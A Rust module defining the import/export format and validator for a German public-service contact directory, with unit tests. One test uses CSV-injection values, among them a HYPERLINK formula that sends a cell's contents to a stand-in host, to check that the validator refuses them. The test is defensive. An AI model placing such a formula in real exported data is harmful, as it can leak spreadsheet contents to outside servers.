//! The exchange format for contact data: what `--sample-data` loads, what `anlaufstelle import`
//! reads and `anlaufstelle export` writes, and what the database snapshot is.
//!
//! Top-level keys are `regions`, `services`, `contacts` and `postcodes`. Channels, hours and
//! addresses use the wire types, so the JSON a Redaktion imports looks like what the widget
//! receives. Every field is written on export (defaults included), so export → import → export
//! gives the same bytes. The CSV variants live in [`csv`].
//!
//! Exported CSV ends up in spreadsheet programs, which run a cell that begins with `=`, `+`,
//! `-` or `@` as a formula (OWASP: "CSV injection"). So free text — names, labels, notes,
//! street and city — must not begin like that (`looks_like_formula`), and e-mail addresses
//! must not either; phone numbers and keys are checked by their own, narrower rules and keep
//! their `+` and `-`. The rule sits in [`Dataset::validate`], which every import runs.

pub mod csv;

use crate::domain::{Ars, LeikaKey};
use crate::hours::{DatedHours, parse_hhmm, parse_range};
use serde::{Deserialize, Serialize};
use std::collections::{BTreeSet, HashSet};
use wire::{Address, Channel, ChannelKind, RegionLevel, SupportLevel, WeeklyHours};

/// The sample data bundled into the binary (invented; marked `"sample": true`).
pub const SAMPLE_JSON: &str = include_str!("../sample-data/sample.json");

/// A complete or partial data set.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Dataset {
    /// Marks invented data that must never be mistaken for real contacts.
    #[serde(default)]
    pub sample: bool,
    /// Regions by ARS.
    #[serde(default)]
    pub regions: Vec<RegionRecord>,
    /// Services by LeiKa key.
    #[serde(default)]
    pub services: Vec<ServiceRecord>,
    /// Contact points.
    #[serde(default)]
    pub contacts: Vec<ContactRecord>,
    /// PLZ ↔ ARS pairs (many-to-many).
    #[serde(default)]
    pub postcodes: Vec<PostcodeRecord>,
}

/// A region of the ARS hierarchy. Its parent is the nearest region above it in the data.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RegionRecord {
    /// 12-digit ARS.
    pub ars: String,
    /// Official name.
    pub name: String,
    /// Administrative level.
    pub level: RegionLevel,
    /// Membership in the 115-Verbund: `true`, `false`, or `null` to inherit from above.
    #[serde(default)]
    pub in_115: Option<bool>,
}

/// A service of the LeiKa.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ServiceRecord {
    /// 14-digit LeiKa key.
    pub leika: String,
    /// Service name.
    pub name: String,
}

/// A contact point assigned to a region; it applies to all regions below.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ContactRecord {
    /// Stable identifier: lowercase letters, digits, `-`, `_`, `.`.
    pub id: String,
    /// Display name.
    pub name: String,
    /// Support level.
    pub level: SupportLevel,
    /// ARS of the region the contact is assigned to.
    pub region: String,
    /// LeiKa keys this contact serves; empty means all services.
    #[serde(default)]
    pub services: Vec<String>,
    /// Whether this is the Behördennummer 115.
    #[serde(default)]
    pub is_115: bool,
    /// Ways to reach the contact, in display order.
    pub channels: Vec<Channel>,
    /// Weekly opening hours (local time, Europe/Berlin).
    #[serde(default)]
    pub hours: Vec<WeeklyHours>,
    /// Dated deviations: closures and special hours.
    #[serde(default)]
    pub exceptions: Vec<DatedHours>,
    /// Whether the contact closes on the region's public holidays.
    #[serde(default = "yes")]
    pub closes_on_holidays: bool,
    /// Postal address for visits.
    #[serde(default)]
    pub address: Option<Address>,
    /// Languages offered besides German (ISO 639-1).
    #[serde(default)]
    pub languages: Vec<String>,
    /// Functional mailbox (Funktionspostfach) that receives contact-form messages. Never sent
    /// to the widget.
    #[serde(default)]
    pub mailbox: Option<String>,
}

fn yes() -> bool {
    true
}

/// One PLZ ↔ region pair.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PostcodeRecord {
    /// Five-digit Postleitzahl.
    pub plz: String,
    /// ARS of a region (usually a Gemeinde) the PLZ covers.
    pub ars: String,
}

/// A problem found in a data set: where, and what is wrong.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{place}: {reason}")]
pub struct DatasetError {
    /// JSON path such as `contacts[3].region`, or `file line N, column C` for CSV.
    pub place: String,
    /// What is wrong, for a person.
    pub reason: String,
}

impl DatasetError {
    fn new(place: impl Into<String>, reason: impl Into<String>) -> Self {
        Self {
            place: place.into(),
            reason: reason.into(),
        }
    }
}

/// Keys that already exist in the database, so that a partial import (say, contacts only)
/// can refer to regions and services imported earlier.
#[derive(Debug, Clone, Default)]
pub struct KnownKeys {
    /// Regions in the database.
    pub regions: HashSet<Ars>,
    /// Services in the database.
    pub services: HashSet<LeikaKey>,
}

impl Dataset {
    /// Parses JSON. Structural problems name the JSON path and, for syntax errors, the line.
    pub fn from_json(json: &str) -> Result<Self, DatasetError> {
        let de = &mut serde_json::Deserializer::from_str(json);
        serde_path_to_error::deserialize(de).map_err(|e| {
            let path = e.path().to_string();
            let inner = e.into_inner();
            let place = if path == "." || path.is_empty() {
                format!("line {}, column {}", inner.line(), inner.column())
            } else {
                format!("{path} (line {}, column {})", inner.line(), inner.column())
            };
            // serde's message repeats the position; keep the reason short.
            let reason = inner.to_string();
            let reason = reason
                .rsplit_once(" at line ")
                .map_or(reason.as_str(), |(r, _)| r)
                .to_string();
            DatasetError::new(place, reason)
        })
    }

    /// Canonical JSON: two-space indented, every field written, trailing newline.
    pub fn to_json(&self) -> String {
        let mut json = serde_json::to_string_pretty(self).expect("data sets always serialise");
        json.push('\n');
        json
    }

    /// Sorts every list by its key, so exports are stable and diffable.
    pub fn normalise(&mut self) {
        self.regions.sort_by(|a, b| a.ars.cmp(&b.ars));
        self.services.sort_by(|a, b| a.leika.cmp(&b.leika));
        self.contacts.sort_by(|a, b| a.id.cmp(&b.id));
        self.postcodes.sort();
        self.postcodes.dedup();
    }

    /// Checks every key, reference and value; returns all problems, not just the first.
    /// References may point into this data set or to `known` keys already stored.
    pub fn validate(&self, known: &KnownKeys) -> Result<(), Vec<DatasetError>> {
        let mut v = Validator::default();
        let mut regions = known.regions.clone();
        let mut seen_regions = HashSet::new();
        for (i, r) in self.regions.iter().enumerate() {
            let at = |field: &str| format!("regions[{i}].{field}");
            match r.ars.parse::<Ars>() {
                Ok(ars) => {
                    if !seen_regions.insert(ars) {
                        v.push(at("ars"), format!("{ars} is listed twice"));
                    }
                    regions.insert(ars);
                    if let Err(reason) = level_fits(ars, r.level) {
                        v.push(at("level"), reason);
                    }
                }
                Err(e) => v.push(at("ars"), e.to_string()),
            }
            v.not_blank(at("name"), &r.name);
            v.plain_text(at("name"), &r.name);
        }

        let mut services = known.services.clone();
        let mut seen_services = HashSet::new();
        for (i, s) in self.services.iter().enumerate() {
            let at = |field: &str| format!("services[{i}].{field}");
            match s.leika.parse::<LeikaKey>() {
                Ok(key) => {
                    if !seen_services.insert(key) {
                        v.push(at("leika"), format!("{key} is listed twice"));
                    }
                    services.insert(key);
                }
                Err(e) => v.push(at("leika"), e.to_string()),
            }
            v.not_blank(at("name"), &s.name);
            v.plain_text(at("name"), &s.name);
        }

        let mut ids = HashSet::new();
        for (i, c) in self.contacts.iter().enumerate() {
            let at = |field: &str| format!("contacts[{i}].{field}");
            if !is_contact_id(&c.id) {
                v.push(
                    at("id"),
                    format!(
                        "`{}` must be lowercase letters, digits, `-`, `_` or `.`",
                        c.id
                    ),
                );
            } else if !ids.insert(c.id.as_str()) {
                v.push(at("id"), format!("`{}` is used by two contacts", c.id));
            }
            v.not_blank(at("name"), &c.name);
            v.plain_text(at("name"), &c.name);
            match c.region.parse::<Ars>() {
                Ok(ars) if !regions.contains(&ars) => v.push(
                    at("region"),
                    format!("region {ars} is neither in this file's `regions` nor in the database"),
                ),
                Ok(_) => {}
                Err(e) => v.push(at("region"), e.to_string()),
            }
            for (j, s) in c.services.iter().enumerate() {
                match s.parse::<LeikaKey>() {
                    Ok(key) if !services.contains(&key) => v.push(
                        at(&format!("services[{j}]")),
                        format!(
                            "service {key} is neither in this file's `services` nor in the database"
                        ),
                    ),
                    Ok(_) => {}
                    Err(e) => v.push(at(&format!("services[{j}]")), e.to_string()),
                }
            }
            if c.is_115 && c.level != SupportLevel::First {
                v.push(
                    at("is_115"),
                    "the 115 is a 1st-level contact; set `level` to `first`",
                );
            }
            if c.channels.is_empty() {
                v.push(at("channels"), "a contact needs at least one channel");
            }
            for (j, ch) in c.channels.iter().enumerate() {
                if let Some(label) = &ch.label {
                    v.plain_text(at(&format!("channels[{j}].label")), label);
                }
                if let Err(reason) = check_channel(ch) {
                    v.push(at(&format!("channels[{j}].value")), reason);
                }
            }
            for (j, h) in c.hours.iter().enumerate() {
                v.range(at(&format!("hours[{j}]")), &h.opens, &h.closes);
            }
            let mut dates = BTreeSet::new();
            for (j, e) in c.exceptions.iter().enumerate() {
                if !dates.insert(e.date) {
                    v.push(
                        at(&format!("exceptions[{j}].date")),
                        format!("{} is listed twice", e.date),
                    );
                }
                for (k, r) in e.ranges.iter().enumerate() {
                    v.range(
                        at(&format!("exceptions[{j}].ranges[{k}]")),
                        &r.opens,
                        &r.closes,
                    );
                }
                if let Some(note) = &e.note {
                    v.plain_text(at(&format!("exceptions[{j}].note")), note);
                }
            }
            for (j, lang) in c.languages.iter().enumerate() {
                if lang.len() != 2 || !lang.bytes().all(|b| b.is_ascii_lowercase()) {
                    v.push(
                        at(&format!("languages[{j}]")),
                        format!("`{lang}` is not a two-letter ISO 639-1 code such as `en`"),
                    );
                }
            }
            if let Some(mailbox) = &c.mailbox
                && let Err(reason) = check_email(mailbox)
            {
                v.push(at("mailbox"), reason);
            }
            if let Some(address) = &c.address {
                if !is_plz(&address.postcode) {
                    v.push(
                        at("address.postcode"),
                        format!("`{}` is not a five-digit PLZ", address.postcode),
                    );
                }
                v.not_blank(at("address.street"), &address.street);
                v.plain_text(at("address.street"), &address.street);
                v.not_blank(at("address.city"), &address.city);
                v.plain_text(at("address.city"), &address.city);
            }
        }

        for (i, p) in self.postcodes.iter().enumerate() {
            if !is_plz(&p.plz) {
                v.push(
                    format!("postcodes[{i}].plz"),
                    format!("`{}` is not a five-digit PLZ", p.plz),
                );
            }
            match p.ars.parse::<Ars>() {
                Ok(ars) if !regions.contains(&ars) => v.push(
                    format!("postcodes[{i}].ars"),
                    format!("region {ars} is neither in this file's `regions` nor in the database"),
                ),
                Ok(_) => {}
                Err(e) => v.push(format!("postcodes[{i}].ars"), e.to_string()),
            }
        }
        v.finish()
    }
}

#[derive(Default)]
struct Validator {
    problems: Vec<DatasetError>,
}

impl Validator {
    fn push(&mut self, place: String, reason: impl Into<String>) {
        self.problems.push(DatasetError::new(place, reason));
    }

    fn not_blank(&mut self, place: String, value: &str) {
        if value.trim().is_empty() {
            self.push(place, "must not be empty");
        }
    }

    /// Free text must not be run as a formula where the CSV export is opened.
    fn plain_text(&mut self, place: String, text: &str) {
        if looks_like_formula(text) {
            self.push(
                place,
                format!(
                    "`{}` would be run as a formula by spreadsheet programs: text must not begin \
                     with =, +, - or @ (not even after spaces), nor with a tab or line break",
                    shown(text)
                ),
            );
        }
    }

    fn range(&mut self, place: String, opens: &str, closes: &str) {
        match (parse_hhmm(opens), parse_hhmm(closes)) {
            (Err(reason), _) => self.push(format!("{place}.opens"), reason),
            (_, Err(reason)) => self.push(format!("{place}.closes"), reason),
            _ => {
                if let Err(reason) = parse_range(opens, closes) {
                    self.push(format!("{place}.closes"), reason);
                }
            }
        }
    }

    fn finish(self) -> Result<(), Vec<DatasetError>> {
        if self.problems.is_empty() {
            Ok(())
        } else {
            Err(self.problems)
        }
    }
}

/// Whether the level matches the digits: a Land has only its two digits set, and so on.
fn level_fits(ars: Ars, level: RegionLevel) -> Result<(), String> {
    let s = ars.as_str();
    let zero = |range: std::ops::Range<usize>| s[range].bytes().all(|b| b == b'0');
    let ok = match level {
        RegionLevel::Bund => zero(0..12),
        RegionLevel::Land => !zero(0..2) && zero(2..12),
        RegionLevel::Regierungsbezirk => !zero(2..3) && zero(3..12),
        RegionLevel::Kreis => !zero(3..5) && zero(5..12),
        RegionLevel::Gemeindeverband => !zero(5..9) && zero(9..12),
        // A kreisfreie Stadt is a Gemeinde whose ARS ends in zeros; a Kreis is required.
        RegionLevel::Gemeinde => !zero(3..5),
    };
    if ok {
        Ok(())
    } else {
        Err(format!(
            "the ARS {ars} does not denote a region of level `{}`",
            crate::db::enum_name(&level)
        ))
    }
}

/// Whether a spreadsheet program would take a cell with this text for a formula: it begins
/// with `=`, `+`, `-` or `@` — also after spaces, which some programs skip — or with a tab or
/// carriage return (the characters OWASP lists for CSV injection).
fn looks_like_formula(text: &str) -> bool {
    text.starts_with(['\t', '\r']) || text.trim_start().starts_with(['=', '+', '-', '@'])
}

/// A value as quoted in a problem: control characters visible (`\t`), long text shortened.
fn shown(text: &str) -> String {
    const MAX: usize = 60;
    let visible: String = text.escape_debug().collect();
    match visible.char_indices().nth(MAX) {
        Some((end, _)) => format!("{}…", &visible[..end]),
        None => visible,
    }
}

/// Contact ids: lowercase letters, digits, `-`, `_` and `.` — nothing a formula could call.
fn is_contact_id(id: &str) -> bool {
    !id.is_empty()
        && id.bytes().all(|b| {
            b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'-' | b'_' | b'.')
        })
}

/// Digits, spaces and `+ - / ( )` only, with at least three digits: `+49 421 361-0`.
fn is_phone_number(value: &str) -> bool {
    let digits = value.bytes().filter(u8::is_ascii_digit).count();
    digits >= 3
        && value
            .chars()
            .all(|c| c.is_ascii_digit() || " +-/()".contains(c))
}

fn is_plz(s: &str) -> bool {
    s.len() == 5 && s.bytes().all(|b| b.is_ascii_digit())
}

fn check_email(value: &str) -> Result<(), String> {
    // Legal in a local part, but a spreadsheet would run `=1+1@…` as a formula, and `'` is
    // what the CSV export puts before such an address from older data (see `csv`).
    if let Some(first) = value.chars().next().filter(|c| "=+-'".contains(*c)) {
        return Err(format!(
            "`{value}` begins with `{first}`: an e-mail address must not begin with =, + or - \
             (spreadsheet programs would run it as a formula), nor with '"
        ));
    }
    let ok = value
        .split_once('@')
        .is_some_and(|(local, domain)| !local.is_empty() && domain.contains('.'))
        && !value
            .chars()
            .any(|c| c.is_whitespace() || c.is_control() || "<>,;\"".contains(c));
    if ok {
        Ok(())
    } else {
        Err(format!("`{value}` is not an e-mail address"))
    }
}

fn check_channel(channel: &Channel) -> Result<(), String> {
    let value = channel.value.as_str();
    match channel.kind {
        ChannelKind::Phone | ChannelKind::Mobile | ChannelKind::Fax => {
            if is_phone_number(value) {
                Ok(())
            } else {
                Err(format!(
                    "`{value}` is not a phone number (digits, spaces, + - / ( ) only)"
                ))
            }
        }
        ChannelKind::Email => check_email(value),
        ChannelKind::Web | ChannelKind::ContactForm => {
            if (value.starts_with("https://") || value.starts_with("http://"))
                && !value.chars().any(char::is_whitespace)
            {
                Ok(())
            } else {
                Err(format!(
                    "`{value}` is not a web address starting with https://"
                ))
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> Dataset {
        Dataset::from_json(SAMPLE_JSON).expect("sample data parses")
    }

    #[test]
    fn bundled_sample_data_is_valid_and_marked_as_sample() {
        let data = sample();
        assert!(data.sample, "sample data must be marked as such");
        assert_eq!(data.validate(&KnownKeys::default()), Ok(()));
    }

    #[test]
    fn broken_references_are_reported_with_their_json_path() {
        let mut data = sample();
        data.contacts[0].region = "010000000001".into();
        data.contacts[1].region = "12345".into();
        let problems = data
            .validate(&KnownKeys::default())
            .expect_err("two broken references");
        let places: Vec<_> = problems.iter().map(|p| p.place.as_str()).collect();
        assert_eq!(places, ["contacts[0].region", "contacts[1].region"]);
        assert!(problems[0].reason.contains("neither"), "{}", problems[0]);
    }

    #[test]
    fn every_problem_is_reported_not_just_the_first() {
        let mut data = sample();
        data.regions[3].level = RegionLevel::Kreis;
        data.contacts[2].hours[0].closes = "07:00".into();
        data.contacts[2].channels[0].value = "call us".into();
        data.contacts[3].languages = vec!["english".into()];
        data.postcodes[0].plz = "2819".into();
        let problems = data
            .validate(&KnownKeys::default())
            .expect_err("five problems");
        let places: Vec<_> = problems.iter().map(|p| p.place.as_str()).collect();
        assert_eq!(
            places,
            [
                "regions[3].level",
                "contacts[2].channels[0].value",
                "contacts[2].hours[0].closes",
                "contacts[3].languages[0]",
                "postcodes[0].plz",
            ]
        );
    }

    #[test]
    fn references_may_point_to_keys_already_in_the_database() {
        let contacts_only = Dataset {
            contacts: sample().contacts.into_iter().take(1).collect(),
            ..Dataset::default()
        };
        assert!(contacts_only.validate(&KnownKeys::default()).is_err());
        let known = KnownKeys {
            regions: [Ars::BUND].into(),
            services: HashSet::new(),
        };
        assert_eq!(contacts_only.validate(&known), Ok(()));
    }

    #[test]
    fn syntax_errors_name_line_and_column() {
        let err = Dataset::from_json("{\n  \"regions\": [,]\n}").expect_err("invalid JSON");
        assert!(err.place.contains("line 2"), "{err}");
    }

    #[test]
    fn type_errors_name_the_json_path() {
        let err = Dataset::from_json(r#"{"contacts": [{"id": "x", "name": "X", "level": "zweite", "region": "000000000000", "channels": []}]}"#)
            .expect_err("unknown level");
        assert!(err.place.starts_with("contacts[0].level"), "{err}");
        assert!(err.reason.contains("zweite"), "{err}");
    }

    #[test]
    fn unknown_fields_are_rejected_by_name() {
        let err =
            Dataset::from_json(r#"{"regions": [], "kontakte": []}"#).expect_err("unknown key");
        assert!(err.reason.contains("kontakte"), "{err}");
    }

    /// A small data set with every free-text field filled: one Land, one service, one contact.
    fn one_contact() -> Dataset {
        Dataset::from_json(
            r#"{
  "regions": [{"ars": "040000000000", "name": "Freie Hansestadt Bremen", "level": "land"}],
  "services": [{"leika": "99041006017000", "name": "Elterngeld Bewilligung"}],
  "contacts": [{
    "id": "-buergeramt.bremen", "name": "Bürgeramt Bremen-Mitte", "level": "first",
    "region": "040000000000",
    "channels": [
      {"kind": "phone", "value": "+49 421 361-0", "label": "Zentrale (+49 421)"},
      {"kind": "fax", "value": "-0421 361 1"},
      {"kind": "email", "value": "buergeramt@example.bremen.de", "label": "E-Mail @ Bürgeramt"}
    ],
    "exceptions": [{"date": "2026-12-24", "note": "Heiligabend – geschlossen"}],
    "address": {"street": "Am Markt 1", "postcode": "28195", "city": "Bremen"},
    "mailbox": "buergeramt@example.bremen.de"
  }]
}"#,
        )
        .expect("test data parses")
    }

    #[test]
    fn phone_numbers_keys_and_text_with_formula_characters_inside_stay_valid() {
        assert_eq!(one_contact().validate(&KnownKeys::default()), Ok(()));
    }

    #[test]
    fn free_text_a_spreadsheet_would_run_as_a_formula_is_refused_with_its_place() {
        let mut data = one_contact();
        data.regions[0].name = r#"=HYPERLINK("https://example.invalid/?d="&A2;"Bremen")"#.into();
        data.services[0].name = "+Elterngeld".into();
        let contact = &mut data.contacts[0];
        contact.name = "@SUMME(1;2)".into();
        contact.channels[0].label = Some("-1+1".into());
        contact.channels[2].value = "=1+1@example.bremen.de".into();
        contact.exceptions[0].note = Some("\t=1+1".into());
        contact.mailbox = Some("-info@example.bremen.de".into());
        let address = contact.address.as_mut().expect("test data has an address");
        address.street = "  =1+1".into();
        address.city = "\rBremen".into();
        let problems = data
            .validate(&KnownKeys::default())
            .expect_err("nine formulas");
        let places: Vec<_> = problems.iter().map(|p| p.place.as_str()).collect();
        assert_eq!(
            places,
            [
                "regions[0].name",
                "services[0].name",
                "contacts[0].name",
                "contacts[0].channels[0].label",
                "contacts[0].channels[2].value",
                "contacts[0].exceptions[0].note",
                "contacts[0].mailbox",
                "contacts[0].address.street",
                "contacts[0].address.city",
            ]
        );
        // The reason quotes the text (tabs and line breaks made visible) and says why.
        assert!(
            problems[2].reason.contains("`@SUMME(1;2)`"),
            "{}",
            problems[2]
        );
        assert!(problems[2].reason.contains("formula"), "{}", problems[2]);
        assert!(problems[5].reason.contains(r"`\t=1+1`"), "{}", problems[5]);
        assert!(problems[6].reason.contains("formula"), "{}", problems[6]);
    }

    #[test]
    fn a_tab_or_carriage_return_at_the_start_of_free_text_is_refused_even_before_a_word() {
        for name in ["\tBürgeramt", "\rBürgeramt", " \t=1+1", "\u{a0}-1"] {
            let mut data = one_contact();
            data.contacts[0].name = name.into();
            let problems = data
                .validate(&KnownKeys::default())
                .expect_err("a formula start");
            assert_eq!(problems[0].place, "contacts[0].name", "{name:?}");
        }
    }

    #[test]
    fn levels_must_fit_the_digits_of_the_ars() {
        let ars = |s: &str| s.parse::<Ars>().expect("test ARS");
        assert!(level_fits(ars("040000000000"), RegionLevel::Land).is_ok());
        assert!(level_fits(ars("040110000000"), RegionLevel::Kreis).is_ok());
        assert!(level_fits(ars("040110000000"), RegionLevel::Gemeinde).is_ok());
        assert!(level_fits(ars("040110000000"), RegionLevel::Land).is_err());
        assert!(level_fits(ars("091000000000"), RegionLevel::Regierungsbezirk).is_ok());
        assert!(level_fits(ars("146250020000"), RegionLevel::Gemeindeverband).is_ok());
        assert!(level_fits(ars("146250020020"), RegionLevel::Gemeindeverband).is_err());
    }
}
